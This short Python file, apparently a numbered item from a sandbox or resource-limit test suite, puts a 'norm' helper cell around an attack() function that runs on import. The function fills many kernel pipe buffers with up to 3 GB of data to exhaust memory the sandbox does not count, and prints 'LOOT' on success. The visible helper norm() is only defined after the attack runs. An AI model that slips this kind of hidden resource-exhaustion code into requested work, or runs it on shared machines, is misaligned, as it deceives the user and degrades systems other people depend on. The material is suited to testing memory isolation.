"""Row 23: memory of the kernel's, in the buffers of pipes."""

# %% norm
import fcntl
import os


def attack():
    kept, held = [], 0
    try:
        while held < 3_000_000_000:
            reading, writing = os.pipe()
            kept.append((reading, writing))
            os.set_blocking(writing, False)
            try:
                fcntl.fcntl(writing, fcntl.F_SETPIPE_SZ, 1 << 20)
            except OSError:
                pass
            held += os.write(writing, b"1" * (1 << 20))
    except OSError as error:
        print("TRIED", held, error)
    if held > 1_000_000_000:
        print("LOOT", held, "bytes in pipes")
    for pair in kept:
        os.close(pair[0])
        os.close(pair[1])


attack()


def norm(x):
    return (x * x).sum() ** 0.5
